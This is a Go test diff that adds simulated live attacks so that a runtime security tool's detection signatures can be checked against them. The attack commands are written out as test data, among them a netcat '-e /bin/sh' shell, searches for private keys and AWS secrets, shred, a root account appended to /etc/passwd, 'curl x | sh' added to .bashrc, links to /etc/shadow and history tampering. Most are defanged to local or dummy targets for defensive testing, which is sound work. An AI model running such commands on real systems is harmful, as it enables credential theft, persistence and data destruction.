@@ -7,6 +7,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 
 	"github.com/seed-428f5ad7/tracee/types/trace"
@@ -212,11 +213,165 @@ func liveCases() []liveCase {
 	}
 }
 
+// inContainerSh runs a script in a staged container and returns the pid of its helper.
+func inContainerSh(t *testing.T, script string) int {
+	t.Helper()
+	pid, _ := inFakeContainer(t, helperCmd("wait-sh", script))
+	return pid
+}
+
+// asNobody runs a helper action as uid/gid 65534.
+func asNobody(t *testing.T, action string, args ...string) int {
+	t.Helper()
+	cmd := helperCmd(action, args...)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
+	return run(t, cmd)
+}
+
+// parityCases are the live attacks of the Falco-parity signatures (EXT-010 onwards).
+func parityCases() []liveCase {
+	return []liveCase{
+		{event: "exec_from_temp_dir", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "f=/dev/shm/e2e-$$ && cp /bin/true $f && $f; rm -f $f")
+		}},
+		{event: "exec_from_temp_dir", how: "relative path from /tmp in a container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "cd "+e.dir+" && cp /bin/true ./tmp-run && ./tmp-run")
+		}, check: inContainer},
+		{event: "drop_and_execute", how: "copied, renamed and run in a container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "cd "+e.dir+" && cp /bin/true dropped && mv dropped kworker && ./kworker")
+		}, check: inContainer},
+		{event: "netcat_remote_code_execution", how: "renamed copy started as nc", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cp /bin/true "+e.dir+"/kworker && (exec -a nc "+e.dir+"/kworker -e /bin/sh 127.0.0.1 1) 2>/dev/null || bash -c 'exec -a nc "+e.dir+"/kworker -e /bin/sh 127.0.0.1 1'")
+		}},
+		{event: "private_key_search", how: "grep -r for key content", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "grep -r 'BEGIN OPENSSH PRIVATE' "+e.dir+" >/dev/null; true")
+		}},
+		{event: "private_key_search", how: "find by name", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "find "+e.dir+" -name id_rsa >/dev/null")
+		}},
+		{event: "private_key_search", how: "renamed grep searching by content", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cp /bin/grep "+e.dir+"/lookup && "+e.dir+"/lookup -rl 'BEGIN RSA PRIVATE' "+e.dir+" >/dev/null; true")
+		}},
+		{event: "private_key_search", how: "AWS credentials", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "grep -rl aws_secret_access_key "+e.dir+" >/dev/null; true")
+		}},
+		{event: "data_destruction", act: func(t *testing.T, e *liveEnv) int { return sh(t, "shred -u "+mkfile(t, e.dir, "shred-me")) }},
+		{event: "debugfs_in_container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "cp /bin/true "+e.dir+"/debugfs && "+e.dir+"/debugfs -R stats /dev/null")
+		}, check: inContainer},
+		{event: "system_user_interactive", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "script -qec 'setpriv --reuid=1 --regid=1 --clear-groups /bin/sh -c true' /dev/null </dev/null >/dev/null")
+		}, want: map[string]interface{}{"uid": 1}},
+		{event: "terminal_shell_in_container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "script -qec '/bin/sh -c true' /dev/null </dev/null >/dev/null")
+		}, check: inContainer},
+		{event: "db_spawned_process", act: func(t *testing.T, e *liveEnv) int {
+			db := filepath.Join(e.dir, "mysqld")
+			return sh(t, "cp /bin/sh "+db+" && "+db+" -c '/bin/true; true'")
+		}, want: map[string]interface{}{"database": "mysqld"}},
+		{event: "user_management_tool", act: func(t *testing.T, e *liveEnv) int { return sh(t, "useradd --help >/dev/null; true") }},
+		{event: "account_database_write", act: func(t *testing.T, e *liveEnv) int {
+			return privateSh(t, "mount -t tmpfs e2e /etc && echo 'e2e:x:0:0::/:/bin/sh' >> /etc/passwd")
+		}, want: map[string]interface{}{"pathname": "/etc/passwd"}},
+		{event: "network_tool_launched", how: "on the host", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cp /bin/true "+e.dir+"/nmap && "+e.dir+"/nmap -sS 127.0.0.1")
+		}, check: severityBelow(2)},
+		{event: "network_tool_launched", how: "in a container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "cp /bin/true "+e.dir+"/tcpdump && "+e.dir+"/tcpdump -i any")
+		}, check: severityAtLeast(2)},
+		{event: "remote_file_copy_in_container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "curl -s -m 1 file:///etc/hostname >/dev/null")
+		}, want: map[string]interface{}{"direction": "ingress"}, check: inContainer},
+		{event: "package_management_in_container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "dpkg --version >/dev/null")
+		}, check: inContainer},
+		{event: "http_proxy_env", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "HTTP_PROXY=http://127.0.0.1:9 /bin/true")
+		}, want: map[string]interface{}{"variable": "HTTP_PROXY"}},
+		{event: "glibc_tunables_env", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true")
+		}},
+		{event: "archive_to_stdout_in_container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "tar cf - /etc/hostname 2>/dev/null >/dev/null")
+		}, check: inContainer},
+		{event: "directory_traversal_read", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cd "+e.dir+" && cat ../../../../../../../etc/hostname >/dev/null")
+		}, want: map[string]interface{}{"pathname": "/etc/hostname"}},
+		{event: "ssh_information_read", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cat "+mkfile(t, e.dir, "home/.ssh/known_hosts")+" >/dev/null")
+		}},
+		{event: "shell_config_modification", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "echo 'curl x | sh' >> "+mkfile(t, e.dir, "home/.bashrc"))
+		}},
+		{event: "file_created_below_dev", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "echo x > /dev/.e2e-hidden; rm -f /dev/.e2e-hidden")
+		}, want: map[string]interface{}{"pathname": "/dev/.e2e-hidden"}},
+		{event: "proc_environ_read", how: "in a container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "cat /proc/self/environ >/dev/null")
+		}, check: severityAtLeast(2)},
+		{event: "cloud_credentials_read", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cat "+mkfile(t, e.dir, "home/.aws/credentials")+" >/dev/null")
+		}},
+		{event: "backdoored_xz_library", act: func(t *testing.T, e *liveEnv) int {
+			return helper(t, "open", mkfile(t, e.dir, "lib/liblzma.so.5.6.1"), oRdonly)
+		}},
+		{event: "cloud_metadata_access", act: func(t *testing.T, e *liveEnv) int {
+			pid, _ := inFakeContainer(t, helperCmd("wait-dial-quick", "169.254.169.254:80"))
+			return pid
+		}, want: map[string]interface{}{"ip": "169.254.169.254"}, check: inContainer},
+		{event: "ssh_nonstandard_port", skip: skipWithout("ssh"), act: func(t *testing.T, e *liveEnv) int {
+			_, port, _ := net.SplitHostPort(e.tcp)
+			return sh(t, "ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p "+port+" e2e@127.0.0.1 true 2>/dev/null; true")
+		}},
+		{event: "system_proc_network_activity", skip: skipWithout("bash"), act: func(t *testing.T, e *liveEnv) int {
+			host, port, _ := net.SplitHostPort(e.tcp)
+			return run(t, exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+host+"/"+port+"; exec 3>&-"))
+		}, want: map[string]interface{}{"program": "bash"}},
+		{event: "unexpected_udp_traffic", act: func(t *testing.T, e *liveEnv) int { return helper(t, "udp-connect", "127.0.0.1:9999") },
+			want: map[string]interface{}{"port": "9999"}},
+		{event: "packet_socket_in_container", act: func(t *testing.T, e *liveEnv) int {
+			pid, _ := inFakeContainer(t, helperCmd("wait-packet-socket"))
+			return pid
+		}, check: inContainer},
+		{event: "symlink_over_sensitive_file", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cd "+e.dir+" && ln -s ../../../../../../etc/shadow s")
+		}, want: map[string]interface{}{"target": "/etc/shadow"}},
+		{event: "hardlink_over_sensitive_file", how: "relative path from /etc", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cd /etc && ln shadow "+e.dir+"/h 2>/dev/null; true")
+		}},
+		{event: "namespace_change", how: "unshare in a container", act: func(t *testing.T, e *liveEnv) int {
+			return inContainerSh(t, "unshare -U true")
+		}, want: map[string]interface{}{"syscall": "unshare"}, check: inContainer},
+		{event: "namespace_change", how: "setns on the host", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "nsenter -t $$ -n true")
+		}, want: map[string]interface{}{"syscall": "setns"}, check: severityBelow(2)},
+		{event: "shell_history_tampering", how: "truncated", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "cat /dev/null > "+mkfile(t, e.dir, "h1/.bash_history"))
+		}},
+		{event: "shell_history_tampering", how: "deleted by relative path", act: func(t *testing.T, e *liveEnv) int {
+			mkfile(t, e.dir, "h2/.bash_history")
+			return sh(t, "cd "+e.dir+"/h2 && rm .bash_history")
+		}, want: map[string]interface{}{"action": "deleted"}},
+		{event: "shell_history_tampering", how: "replaced by a symlink to /dev/null", act: func(t *testing.T, e *liveEnv) int {
+			return sh(t, "ln -sf /dev/null "+mkfile(t, e.dir, "h3/.zsh_history"))
+		}},
+		{event: "non_root_setuid", act: func(t *testing.T, e *liveEnv) int { return asNobody(t, "setuid-root") },
+			want: map[string]interface{}{"target_uid": 0}},
+	}
+}
+
+func skipWithout(tool string) string {
+	if _, err := exec.LookPath(tool); err != nil {
+		return tool + " is not installed"
+	}
+	return ""
+}
+
 // TestLive_each_signature_detects_a_real_attack performs every attack once with all signatures on.
 func TestLive_each_signature_detects_a_real_attack(t *testing.T) {
 	a := startAgent(t)
 	env := newLiveEnv(t, a)
-	for _, tc := range liveCases() {
+	for _, tc := range append(liveCases(), parityCases()...) {
 		name := tc.event
 		if tc.how != "" {
 			name += "/" + tc.how
